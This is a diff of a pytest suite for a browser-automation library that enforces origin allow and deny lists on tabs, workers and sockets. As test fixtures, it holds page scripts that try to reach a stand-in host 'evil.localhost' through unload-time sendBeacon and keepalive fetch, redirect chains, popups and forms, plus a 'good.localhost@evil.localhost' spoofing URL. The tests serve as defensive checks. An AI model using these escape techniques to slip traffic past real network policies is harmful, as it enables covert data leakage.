@@ -15,12 +15,12 @@ from cdp_agent.errors import BlockedByPolicy
 from cdp_agent.page.page import Page, tab_of
 from cdp_agent.page.policy.policy_registry import limit, limited
 from cdp_agent.page.policy.rules import rules_of
+from tests.conftest import new_tab
 from tests.detached import DetachedChrome
 from tests.outlets import BESIDE_ALL_SESSIONS, put_outlets, put_unseen
 from tests.web import Web, running
 
 ALLOWED = ["good.localhost", "other.localhost"]
-LISTS: dict[str, tuple[list[str] | None, list[str]]] = {"allow": (ALLOWED, []), "deny": (None, ["evil.localhost"])}
 STILL_S = 3
 
 
@@ -37,6 +37,12 @@ async def guarded() -> AsyncIterator[Browser]:
         yield browser
 
 
+@pytest.fixture(scope="module")
+async def guarded_page(guarded: Browser) -> Page:
+    """The tab there in which tests take turns."""
+    return await guarded.new_page()
+
+
 async def ref(page: Page, name: str) -> str:
     return next(each.ref for each in (await page.snapshot()).refs.values() if each.name == name)
 
@@ -46,7 +52,17 @@ async def all_tried(web: Web, page: Page) -> None:
     before = -1
     while len(web.asked) > before:
         before = len(web.asked)
-        await page.evaluate(f"new Promise(done => setTimeout(done, {STILL_S * 1000}))", timeout_s=STILL_S + 5)
+        await still(page, STILL_S)
+
+
+async def still(page: Page, for_s: float) -> None:
+    await page.evaluate(f"new Promise(done => setTimeout(done, {for_s * 1000}))", timeout_s=for_s + 5)
+
+
+async def close(page: Page) -> None:
+    """With the tabs that it opened."""
+    for each in [page, *page.popups]:
+        await each.close()
 
 
 async def lead(page: Page, url: str) -> None:
@@ -58,8 +74,7 @@ async def test_without_rules_every_outlet_is_one(browser: Browser, web: Web) -> 
     page = await browser.new_page()
     await lead(page, put_outlets(web))
     await all_tried(web, page)
-    for each in [page, *page.popups]:
-        await each.close()
+    await close(page)
 
     tried = web.paths("evil")
 
@@ -68,14 +83,12 @@ async def test_without_rules_every_outlet_is_one(browser: Browser, web: Web) -> 
     assert len(tried) > 80
 
 
-@pytest.mark.parametrize("lists", LISTS)
-async def test_in_a_chrome_of_ours_nothing_gets_out(web: Web, lists: str) -> None:
-    allow, deny = LISTS[lists]
-    async with Browser.launch(allow=allow, deny=deny) as browser:
-        page = await browser.new_page()
-        receipt = await page.goto(put_outlets(web))
-        await all_tried(web, page)
-        await page.goto(web.origin("good") + "/next")
+async def test_in_a_chrome_of_ours_nothing_gets_out(guarded: Browser, web: Web) -> None:
+    page = await guarded.new_page()
+    receipt = await page.goto(put_outlets(web))
+    await all_tried(web, page)
+    await page.goto(web.origin("good") + "/next")
+    await close(page)
 
     assert web.paths("evil") == []
     assert {"/", "/worker.js?who=dedicated", "/worker.js?who=shared", "/service.js", "/next"} <= set(web.paths("good"))
@@ -95,15 +108,21 @@ async def test_what_no_session_tells_of_does_not_get_to_what_a_chrome_of_ours_is
     assert {"/", "/worker.js?who=shared", "/service.js"} <= set(web.paths("good"))
 
 
-@pytest.mark.parametrize("lists", LISTS)
-async def test_in_the_chrome_of_a_user_nothing_gets_out_of_our_tabs(
-    web: Web, detached: DetachedChrome, lists: str
-) -> None:
-    allow, deny = LISTS[lists]
-    async with Browser.connect(detached.endpoint, allow=allow, deny=deny) as browser:
+async def test_in_the_chrome_of_a_user_nothing_gets_out_of_our_tabs(web: Web, detached: DetachedChrome) -> None:
+    """Nor as they are closed."""
+    farewell = f"""<script>
+    for (const last of ["pagehide", "unload", "visibilitychange"]) addEventListener(last, () => {{
+      navigator.sendBeacon("{web.origin("evil")}/last-" + last);
+      fetch("{web.origin("evil")}/last-" + last, {{keepalive: true, mode: "no-cors"}}); }});
+    if (self.fetchLater) fetchLater("{web.origin("evil")}/last-later");
+    </script>"""
+    async with Browser.connect(detached.endpoint, allow=ALLOWED) as browser:
         page = await browser.new_page()
         receipt = await page.goto(put_outlets(web))
         await all_tried(web, page)
+        await page.goto(web.put("good", "/farewell", farewell))
+        await page.close()
+        await (await browser.new_page()).goto(web.origin("other"))
 
         got_out = web.paths("evil")
 
@@ -111,61 +130,29 @@ async def test_in_the_chrome_of_a_user_nothing_gets_out_of_our_tabs(
     assert f"requests to {web.origin('evil')}" in receipt.text
 
 
-async def test_a_tab_in_the_chrome_of_a_user_closes_without_a_word(web: Web, detached: DetachedChrome) -> None:
-    farewell = f"""<script>
-    for (const last of ["pagehide", "unload", "visibilitychange"]) addEventListener(last, () => {{
-      navigator.sendBeacon("{web.origin("evil")}/" + last);
-      fetch("{web.origin("evil")}/" + last, {{keepalive: true, mode: "no-cors"}}); }});
-    if (self.fetchLater) fetchLater("{web.origin("evil")}/later");
-    </script>"""
-    async with Browser.connect(detached.endpoint, allow=ALLOWED) as browser:
-        page = await browser.new_page()
-        await page.goto(web.put("good", "/", farewell))
-        await page.close()
-        await (await browser.new_page()).goto(web.origin("other"))
-
-    assert web.paths("evil") == []
-
-
-async def test_the_tabs_of_a_user_load_what_they_like(web: Web, detached: DetachedChrome) -> None:
-    async with (
-        Browser.connect(detached.endpoint) as theirs,
-        Browser.connect(detached.endpoint, allow=["good.localhost"]) as ours,
-    ):
-        await (await ours.new_page()).goto(web.origin("good"))
-        page = await theirs.new_page()
-        await page.goto(web.origin("evil") + "/theirs")
-
-    assert web.paths("evil") == ["/favicon.ico", "/theirs"] or web.paths("evil") == ["/theirs"]
-
-
-async def test_in_a_tab_of_a_user_nothing_is_done_under_lists(web: Web, detached: DetachedChrome) -> None:
-    async with (
-        Browser.connect(detached.endpoint) as theirs,
-        Browser.connect(detached.endpoint, allow=["good.localhost"]) as ours,
-    ):
-        tab = await theirs.new_page(web.put("good", "/", "<button>Send</button>"))
-        (page,) = (each for each in ours.pages if each.target_id == tab.target_id)
-
-        assert "Send" in (await page.snapshot()).text
-        for call in (page.click("E1"), page.goto(web.origin("good")), page.press("Enter"), page.scroll()):
-            with pytest.raises(BlockedByPolicy, match="Open its address in a new tab"):
-                await call
-        assert "Send" in await page.markdown()
-
-
-async def test_the_workers_of_a_user_load_what_they_like(web: Web, detached: DetachedChrome) -> None:
+async def test_the_tabs_and_workers_of_a_user_load_what_they_like_and_nothing_is_done_there(
+    web: Web, detached: DetachedChrome
+) -> None:
     async with Browser.connect(detached.endpoint) as theirs:
-        page = await theirs.new_page(put_asking(web, "plain"))
-        before = await page.evaluate("ask()")
+        tab = await theirs.new_page(put_asking(web, "plain"))
+        before = await tab.evaluate("ask()")
         async with Browser.connect(detached.endpoint, deny=["evil.localhost"]) as ours:
             beside = [await (await ours.new_page(put_asking(web, "good"))).evaluate("ask()")]
-            beside += [await page.evaluate("ask()")]
-            anew = await theirs.new_page(put_asking(web, "else"))
-            beside += [await anew.evaluate("ask()")]
+            beside += [await tab.evaluate("ask()")]
+            await tab.goto(put_asking(web, "else"))
+            beside += [await tab.evaluate("ask()")]
+            await tab.goto(web.put("evil", "/theirs", "<button>Send</button>"))
+            (page,) = (each for each in ours.pages if each.target_id == tab.target_id)
+
+            assert "Send" in (await page.snapshot()).text
+            for call in (page.click("E1"), page.goto(web.origin("good")), page.press("Enter"), page.scroll()):
+                with pytest.raises(BlockedByPolicy, match="Open its address in a new tab"):
+                    await call
+            assert "Send" in await page.markdown()
 
     assert before == "sent,sent"
     assert beside == ["refused,refused", "sent,sent", "sent,sent"]
+    assert "/theirs" in web.paths("evil")
 
 
 async def test_a_run_keeps_its_tabs_to_its_rules(browser: Browser, web: Web) -> None:
@@ -226,57 +213,34 @@ async def _service_workers(browser: Browser, web: Web) -> list[str]:
     return [each.url for each in found.target_infos if f":{web.port}/" in each.url]
 
 
-@pytest.mark.parametrize("end", ["close", "goto", "run"])
-async def test_what_a_page_was_told_in_a_run_does_not_leave_after_it(browser: Browser, web: Web, end: str) -> None:
-    async with limited(rules_of(allow=ALLOWED)):
-        page = await browser.new_page()
-        await page.goto(put_keeps(web))
-        await page.evaluate("navigator.serviceWorker.ready.then(() => 0)")
-    still = "new Promise(done => setTimeout(done, 300))"
-    await page.evaluate(still)
-    if end == "goto":
-        await page.goto(web.origin("free"))
-        await page.evaluate(f"fetch('{web.origin('free')}/fetched')")
-    elif end == "run":
-        async with limited(rules_of(allow=["free.localhost"])):
+async def test_what_a_page_was_told_in_a_run_does_not_leave_after_it(browser: Browser, web: Web) -> None:
+    """Neither where another run goes on in its tab, nor where that is closed."""
+    page = await browser.new_page()
+
+    async def be_told() -> None:
+        async with limited(rules_of(allow=ALLOWED)):
             await limit(tab_of(page).guard)
-            await page.goto(web.origin("free"))
-    else:
-        await page.close()
-        page = await browser.new_page()
-    await page.evaluate(still)
+            await page.goto(put_keeps(web))
+            await page.evaluate("navigator.serviceWorker.ready.then(() => 0)")
+        await still(page, 0.3)
+
+    await be_told()
+    async with limited(rules_of(allow=["free.localhost"])):
+        await limit(tab_of(page).guard)
+        await page.goto(web.origin("free"))
+    await page.evaluate(f"fetch('{web.origin('free')}/fetched')")
+    await still(page, 0.3)
     entries = await page.evaluate("history.length")
+    await be_told()
     await page.close()
     async with asyncio.timeout(10):  # it would go on telling
         while await _service_workers(browser, web):
             pass
+    await still(browser.pages[0], 0.3)
 
     assert web.paths("evil") == []
-    assert entries <= 2
-    assert end == "close" or "/" in web.paths("free")
-
-
-async def test_rules_end_with_the_last_of_their_tabs(browser: Browser, web: Web) -> None:
-    put_outlets(web)
-    url = web.put("good", "/", "<script>new SharedWorker('/worker.js?who=shared'); window.open('/popup')</script>")
-    gc.disable()  # whether the tab is forgotten is not what decides
-    try:
-        async with limited(rules_of(allow=ALLOWED)):
-            page = await browser.new_page()
-            await page.goto(url)
-            await all_tried(web, page)
-        for each in [page, *page.popups]:
-            await each.close()
-        before = len(web.asked)
-        page = await browser.new_page()
-        await page.goto(url)
-        await all_tried(web, page)
-        for each in [page, *page.popups]:
-            await each.close()
-    finally:
-        gc.enable()
-
-    assert {"/shared-fetch", "/shared-socket"} <= {path for _, path in web.asked[before:]}
+    assert {"/", "/fetched"} <= set(web.paths("free"))
+    assert entries <= 3
 
 
 ASKING_WORKER = """const ask = (who) => fetch("EVIL/" + who, {mode: "no-cors"}).then(() => "sent", () => "refused");
@@ -300,22 +264,28 @@ def put_asking(web: Web, name: str) -> str:
     return web.put(name, "/asking", ASKS_WORKERS)
 
 
-async def test_the_rules_of_a_tab_bind_the_workers_of_the_sites_that_it_came_to_alone(
-    browser: Browser, web: Web
+async def test_the_rules_of_a_tab_bind_the_workers_of_the_sites_that_it_came_to_alone_and_end_with_it(
+    browser: Browser, page: Page, web: Web
 ) -> None:
-    free = await browser.new_page(put_asking(web, "plain"))
-    before = await free.evaluate("ask()")
-    async with limited(rules_of(deny=["evil.localhost"])):
-        limit_to = await browser.new_page(put_asking(web, "good"))
-        beside = [await limit_to.evaluate("ask()"), await free.evaluate("ask()")]
-        await limit_to.goto(put_asking(web, "plain"))
-        async with asyncio.timeout(10):  # of a shared worker that runs, nothing waits for the rules
-            while (since := await free.evaluate("ask()")) != "refused,refused":
-                pass
-    await limit_to.close()
-    await free.close()
-    again = await browser.new_page(put_asking(web, "plain"))
-    afterwards = await again.evaluate("ask()")
+    await page.goto(put_asking(web, "plain"))
+    before = await page.evaluate("ask()")
+    gc.disable()  # whether the tab is forgotten is not what decides
+    try:
+        async with limited(rules_of(deny=["evil.localhost"])):
+            limit_to = await browser.new_page(put_asking(web, "good"))
+            beside = [await limit_to.evaluate("ask()"), await page.evaluate("ask()")]
+            await limit_to.goto(put_asking(web, "plain"))
+            async with asyncio.timeout(10):  # of a shared worker that runs, nothing waits for the rules
+                while (since := await page.evaluate("ask()")) != "refused,refused":
+                    pass
+            await limit_to.evaluate("window.open('/popup') && 1")
+            await new_tab(limit_to)
+        await close(limit_to)
+        await page.goto(web.origin("else"))
+        await page.goto(put_asking(web, "plain"))
+        afterwards = await page.evaluate("ask()")
+    finally:
+        gc.enable()
 
     assert before == "sent,sent"
     assert beside == ["refused,refused", "sent,sent"]
@@ -323,25 +293,27 @@ async def test_the_rules_of_a_tab_bind_the_workers_of_the_sites_that_it_came_to_
     assert afterwards == "sent,sent"
 
 
-async def test_a_worker_whose_script_is_still_to_come_as_rules_end_begins(browser: Browser, web: Web) -> None:
+async def test_a_worker_whose_script_is_still_to_come_as_rules_end_begins(
+    browser: Browser, page: Page, web: Web
+) -> None:
     """Nobody else would let it run: it waited for us."""
     web.put("plain", "/begins.js", "onconnect = ({ports: [port]}) => port.postMessage('begun')", "text/javascript")
     script = web.hold("plain", "/begins.js")
-    free = await browser.new_page(web.origin("plain"))
+    await page.goto(web.origin("plain"))
     async with limited(rules_of(deny=["evil.localhost"])):
         limit_to = await browser.new_page(web.origin("good"))
         begins = "new Promise((done) => { new SharedWorker('/begins.js').port.onmessage = (told) => done(told.data); })"
-        begun = asyncio.ensure_future(free.evaluate(begins))
+        begun = asyncio.ensure_future(page.evaluate(begins))
         while ("plain", "/begins.js") not in web.asked:
             await limit_to.evaluate("1")
     await limit_to.close()
-    await free.snapshot()  # so that Chrome knows by then that the rules have ended
+    await page.snapshot()  # so that Chrome knows by then that the rules have ended
     script.set()
 
     assert await begun == "begun"
 
 
-async def test_workers_of_workers_belong_to_their_tab(browser: Browser, web: Web) -> None:
+async def test_workers_of_workers_belong_to_their_tab(browser: Browser, page: Page, web: Web) -> None:
     ask = (
         f"fetch('{web.origin('evil')}/', {{mode: 'no-cors'}}).then(() => postMessage('sent'), () => postMessage('no'))"
     )
@@ -351,50 +323,48 @@ async def test_workers_of_workers_belong_to_their_tab(browser: Browser, web: Web
     )
     async with limited(rules_of(allow=ALLOWED)):
         await browser.new_page(web.origin("good"))
-    free = await browser.new_page(web.origin("plain"))
+    await page.goto(web.origin("plain"))
 
-    said = await free.evaluate("new Promise(done => new Worker('/outer.js').onmessage = (told) => done(told.data))")
+    said = await page.evaluate("new Promise(done => new Worker('/outer.js').onmessage = (told) => done(told.data))")
 
     assert said == "sent"
 
 
-@pytest.mark.parametrize("kind", ["close", "goto"])
-async def test_the_last_words_of_an_iframe_keep_to_the_rules(browser: Browser, web: Web, kind: str) -> None:
+async def test_the_last_words_of_an_iframe_keep_to_the_rules(browser: Browser, web: Web) -> None:
     """They may come when the tab is free again: here they are made to, by an iframe that is busy as it is left."""
     last = f"""<script>addEventListener("pagehide", () => {{
       for (const until = Date.now() + 250; Date.now() < until;);
       fetch("{web.origin("evil")}/last", {{keepalive: true, mode: "no-cors"}}); }});</script>"""
     web.put("other", "/last", last)
-    async with limited(rules_of(allow=ALLOWED)):
-        page = await browser.new_page()
-        await page.goto(web.put("good", "/", f"<iframe src='{web.origin('other')}/last'></iframe>"))
-        await page.snapshot()
-    if kind == "goto":
-        await page.goto(web.origin("free"))
-    else:
-        await page.close()
-        page = await browser.new_page()
-    await page.evaluate("new Promise(done => setTimeout(done, 750))")
-    await page.close()
+    url = web.put("good", "/", f"<iframe src='{web.origin('other')}/last'></iframe>")
+    page = await browser.new_page()
+    for leave in (lambda: page.goto(web.origin("free")), page.close):
+        async with limited(rules_of(allow=ALLOWED)):
+            await limit(tab_of(page).guard)
+            await page.goto(url)
+            await page.snapshot()
+        await leave()
+    await still(browser.pages[0], 0.75)
 
     assert web.paths("evil") == []
 
 
-@pytest.mark.parametrize("when", ["before", "pagehide"])
-async def test_what_a_page_sent_keeps_to_its_rules_when_it_was_left(browser: Browser, web: Web, when: str) -> None:
-    """Here what it sent is led elsewhere only when the tab is free again."""
-    answer = web.hold("good", "/later")
-    web.redirect("good", "/later", f"{web.origin('evil')}/later")
-    sends = "fetch('/later', {keepalive: true, mode: 'no-cors'})"
-    sends = f"addEventListener('pagehide', () => {sends})" if when == "pagehide" else sends
+async def test_what_a_page_sent_keeps_to_its_rules_when_it_was_left(browser: Browser, web: Web) -> None:
+    """Here what it sent, before and as it is left, is led elsewhere only when the tab is free again."""
+    answers = [web.hold("good", path) for path in ("/before", "/pagehide")]
+    for path in ("/before", "/pagehide"):
+        web.redirect("good", path, web.origin("evil") + path)
+    send = "const send = (path) => fetch(path, {keepalive: true, mode: 'no-cors'})"
+    both = f"{send}; send('/before'); addEventListener('pagehide', () => send('/pagehide'))"
     async with limited(rules_of(allow=ALLOWED)):
         page = await browser.new_page()
-        await page.goto(web.put("good", "/", f"<script>{sends}</script>"))
+        await page.goto(web.put("good", "/", f"<script>{both}</script>"))
     await page.goto(web.origin("free"))
-    answer.set()
-    await page.evaluate("new Promise(done => setTimeout(done, 500))")
+    for each in answers:
+        each.set()
+    await still(page, 0.5)
 
-    assert "/later" in web.paths("good")
+    assert {"/before", "/pagehide"} <= set(web.paths("good"))
     assert web.paths("evil") == []
 
 
@@ -408,7 +378,6 @@ async def test_a_tab_stays_limited_while_one_that_it_opened_is_there(browser: Br
         await page.goto(web.origin("evil"))
     await page.popups[0].close()
     receipt = await page.goto(web.origin("evil"))
-    await page.close()
 
     assert receipt.navigated_to == web.origin("evil") + "/"
 
@@ -426,8 +395,7 @@ async def test_the_next_run_by_the_same_rules_goes_on_in_the_tab(page: Page, web
     assert (opened, len(tab_of(page).guard.narrow)) == ("open", 1)
 
 
-async def test_an_address_that_is_not_allowed_is_refused_before_anything_is_sent(guarded: Browser, web: Web) -> None:
-    page = await guarded.new_page()
+async def test_an_address_that_is_not_allowed_is_refused_before_anything_is_sent(guarded_page: Page, web: Web) -> None:
     urls = [
         web.origin("evil"),
         f"http://good.localhost@evil.localhost:{web.port}/",
@@ -438,7 +406,7 @@ async def test_an_address_that_is_not_allowed_is_refused_before_anything_is_sent
     told = []
     for url in urls:
         with pytest.raises(BlockedByPolicy) as refused:
-            await page.goto(url)
+            await guarded_page.goto(url)
         told.append(str(refused.value))
 
     why = "is not among the allowed origins (good.localhost, other.localhost), so nothing was sent there."
@@ -452,9 +420,7 @@ LEADS_ELSEWHERE = {
     "redirect": "<a href='/redirect'>redirect</a>",
     "download": "<a href='EVIL/goal' download>download</a>",
     "new tab": "<a href='EVIL/goal' target=_blank>new tab</a>",
-    "opener": "<a href='EVIL/goal' target=_blank rel=opener>opener</a>",
     "popup": "<button onclick='window.open(`EVIL/goal`)'>popup</button>",
-    "noopener": "<button onclick='window.open(`EVIL/goal`, ``, `noopener`)'>noopener</button>",
     "script": "<button onclick='location = `EVIL/goal`'>script</button>",
     "form": "<form action='EVIL/goal' method=post><button>form</button></form>",
     "redirected popup": "<button onclick='window.open(`/redirect`)'>redirected popup</button>",
@@ -462,46 +428,36 @@ LEADS_ELSEWHERE = {
 
 
 async def test_an_action_that_would_lead_elsewhere_fails_and_says_so(
-    guarded: Browser, web: Web, subtests: pytest.Subtests
+    guarded_page: Page, web: Web, subtests: pytest.Subtests
 ) -> None:
+    page = guarded_page
     web.redirect("good", "/redirect", f"{web.origin('other')}/again")
     web.redirect("other", "/again", f"{web.origin('evil')}/goal")
-    page = await guarded.new_page()
     await page.goto(web.put("good", "/", "".join(LEADS_ELSEWHERE.values()).replace("EVIL", web.origin("evil"))))
     await page.evaluate("window.kept = true")
+    refs = {each.name: each.ref for each in (await page.snapshot()).refs.values()}
 
     for name in LEADS_ELSEWHERE:
         with subtests.test(name):
             with pytest.raises(BlockedByPolicy) as refused:
-                await page.click(await ref(page, name))
+                await page.click(refs[name])
 
             assert f"leads elsewhere: {web.origin('evil')} is not among the allowed origins" in str(refused.value)
             assert await page.evaluate("window.kept") is True
             assert (page.url, web.paths("evil")) == (web.origin("good") + "/", [])
 
 
-async def test_a_redirect_within_what_is_allowed_is_followed(guarded: Browser, web: Web) -> None:
-    page = await guarded.new_page()
+SOCKETS = [
+    ("allow", ["good.localhost"], ["good", "a.good"]),
+    ("allow", ["*.good.localhost"], ["a.good"]),
+    ("allow", ["http://good.localhost:PORT"], ["good"]),
+    ("allow", ["https://good.localhost:PORT"], []),
+    ("deny", ["good.localhost"], ["notgood", "good.bad"]),
+    ("deny", ["good.localhost:1"], ["good", "a.good", "notgood", "good.bad"]),
+]
 
-    receipt = await page.goto(web.redirect("good", "/from", f"{web.origin('other')}/to"))
 
-    assert (receipt.navigated_to, receipt.blocked) == (f"{web.origin('other')}/to", [])
-
-
-@pytest.mark.parametrize(
-    ("lists", "opened"),
-    [
-        ({"allow": ["here.localhost", "good.localhost"]}, ["good", "a.good"]),
-        ({"allow": ["here.localhost", "*.good.localhost"]}, ["a.good"]),
-        ({"allow": ["here.localhost", "http://good.localhost:PORT"]}, ["good"]),
-        ({"allow": ["here.localhost", "https://good.localhost:PORT"]}, []),
-        ({"deny": ["good.localhost"]}, ["notgood", "good.bad"]),
-        ({"deny": ["good.localhost:1"]}, ["good", "a.good", "notgood", "good.bad"]),
-    ],
-)
-async def test_sockets_go_to_the_hosts_of_the_lists(
-    browser: Browser, web: Web, lists: dict[str, list[str]], opened: list[str]
-) -> None:
+async def test_sockets_go_to_the_hosts_of_the_lists(browser: Browser, web: Web, subtests: pytest.Subtests) -> None:
     """What pages ask for first is held for us to look at; of sockets Chrome is told beforehand."""
     hosts = ["good", "a.good", "notgood", "good.bad"]
     tried = "".join(
@@ -509,30 +465,38 @@ async def test_sockets_go_to_the_hosts_of_the_lists(
         f" socket.onopen = () => done(['{host}']); socket.onerror = () => done([]); }}),"
         for host in hosts
     )
-    rules = rules_of(**{name: [each.replace("PORT", str(web.port)) for each in some] for name, some in lists.items()})  # type: ignore[arg-type]  # lists alone
+    here = web.put("here", "/", "<p>Here")
+    page = await browser.new_page()
+    for kind, origins, opened in SOCKETS:
+        with subtests.test(f"{kind} {origins}"):
+            web.asked.clear()
+            own = [each.replace("PORT", str(web.port)) for each in origins]
+            rules = rules_of(allow=["here.localhost", *own]) if kind == "allow" else rules_of(deny=own)
 
-    async with limited(rules):
-        page = await browser.new_page(web.put("here", "/", "<p>Here"))
-        assert await page.evaluate(f"Promise.all([{tried}]).then(each => each.flat())") == opened
+            async with limited(rules):
+                await limit(tab_of(page).guard)
+                await page.goto(here)
+                assert await page.evaluate(f"Promise.all([{tried}]).then(each => each.flat())") == opened
 
-    assert {host for host, path in web.asked if path == "/socket"} == set(opened)
+            assert {host for host, path in web.asked if path == "/socket"} == set(opened)
 
 
-async def test_sockets_and_workers_that_are_allowed_work(guarded: Browser, web: Web) -> None:
+async def test_redirects_sockets_and_workers_that_are_allowed_work(guarded_page: Page, web: Web) -> None:
+    page = guarded_page
     web.put("good", "/worker.js", "fetch('/from-worker').then(() => postMessage('fetched'))", "text/javascript")
-    page = await guarded.new_page()
-    await page.goto(web.origin("good"))
 
+    receipt = await page.goto(web.redirect("other", "/from", f"{web.origin('good')}/to"))
     opened = await page.evaluate(
         f"new Promise(done => {{ const socket = new WebSocket('ws://good.localhost:{web.port}/socket');"
         " socket.onopen = () => done('open'); socket.onerror = () => done('refused'); })"
     )
     fetched = await page.evaluate("new Promise(done => new Worker('/worker.js').onmessage = (told) => done(told.data))")
 
+    assert (receipt.navigated_to, receipt.blocked) == (f"{web.origin('good')}/to", [])
     assert (opened, fetched) == ("open", "fetched")
 
 
-async def test_kinds_and_hosts_are_left_out_without_a_word(web: Web) -> None:
+async def test_kinds_and_hosts_are_left_out_without_a_word(browser: Browser, web: Web) -> None:
     content = (
         "<h1>Text</h1><img src=/a.gif><link rel=stylesheet href=/a.css><script src=/a.js></script>"
         "<link rel=prefetch href=/prefetched><link rel=manifest href=/site.webmanifest crossorigin=use-credentials>"
@@ -541,8 +505,8 @@ async def test_kinds_and_hosts_are_left_out_without_a_word(web: Web) -> None:
     )
     web.put("good", "/", content)
     blocked = ["image", "stylesheet", "media", "manifest", "prefetch"]
-    async with Browser.launch(block=blocked, block_hosts=["ads.localhost"]) as browser:
-        page = await browser.new_page()
+    async with await browser.new_context(isolated=False, block=blocked, block_hosts=["ads.localhost"]) as context:
+        page = await context.new_page()
         receipt = await page.goto(web.origin("good"))
 
     assert receipt.text.splitlines()[:2] == [
@@ -555,41 +519,32 @@ async def test_kinds_and_hosts_are_left_out_without_a_word(web: Web) -> None:
     assert (web.paths("ads"), web.paths("sub.ads")) == ([], [])
 
 
-async def test_a_page_cannot_tell_rules_from_an_ad_blocker(guarded: Browser, browser: Browser, web: Web) -> None:
-    page = await guarded.new_page()
-    await page.goto(web.put("good", "/", "<h1>Text</h1>"))
+async def test_a_page_cannot_tell_rules_from_an_ad_blocker(guarded_page: Page, page: Page, web: Web) -> None:
+    await guarded_page.goto(web.put("good", "/", "<h1>Text</h1>"))
 
-    seen = await page.evaluate(
+    seen = await guarded_page.evaluate(
         f"fetch('{web.origin('evil')}/x').catch((error) => [error.name, error.message, Reflect.ownKeys(window).length])"
     )
-    other = await browser.new_page(web.origin("good"))
-    names = await other.evaluate("Reflect.ownKeys(window).length")
+    await page.goto(web.origin("good"))
+    names = await page.evaluate("Reflect.ownKeys(window).length")
 
     assert seen == ["TypeError", "Failed to fetch", names]
 
 
-async def test_a_tab_closes_while_its_requests_are_held(guarded: Browser, web: Web) -> None:
+async def test_a_tab_crashes_and_is_closed_while_its_requests_are_held(
+    guarded: Browser, guarded_page: Page, web: Web
+) -> None:
     flood = f"for (let i = 0; i < 60; i++) fetch('{web.origin('evil')}/' + i).catch(() => 0)"
-    page = await guarded.new_page()
-    await page.goto(web.put("good", "/", "<h1>Text</h1>"))
-
-    await page.evaluate(f"{{ {flood} }}")
-    await asyncio.wait_for(page.close(), 5)
-    other = await guarded.new_page()
-    receipt = await other.goto(web.origin("good"))
-
-    assert receipt.navigated_to == web.origin("good") + "/"
-    assert web.paths("evil") == []
-
-
-async def test_a_tab_that_crashes_while_its_requests_are_held_can_be_used_again(guarded: Browser, web: Web) -> None:
     page = await guarded.new_page()
     await page.goto(web.put("good", "/", "<h1>Text</h1>"))
     root = (await tab_of(page).frames()).root.session
 
-    await page.evaluate(f"{{ for (let i = 0; i < 50; i++) fetch('{web.origin('evil')}/' + i).catch(() => 0) }}")
+    await page.evaluate(f"{{ {flood} }}")
     root.tell(cdp_page.Crash())
-    receipt = await page.goto(web.origin("good") + "/next")
+    again = await page.goto(web.origin("good") + "/next")
+    await page.evaluate(f"{{ {flood} }}")
+    await asyncio.wait_for(page.close(), 5)
+    other = await guarded_page.goto(web.origin("good"))
 
-    assert receipt.navigated_to == web.origin("good") + "/next"
+    assert (again.navigated_to, other.navigated_to) == (web.origin("good") + "/next", web.origin("good") + "/")
     assert web.paths("evil") == []
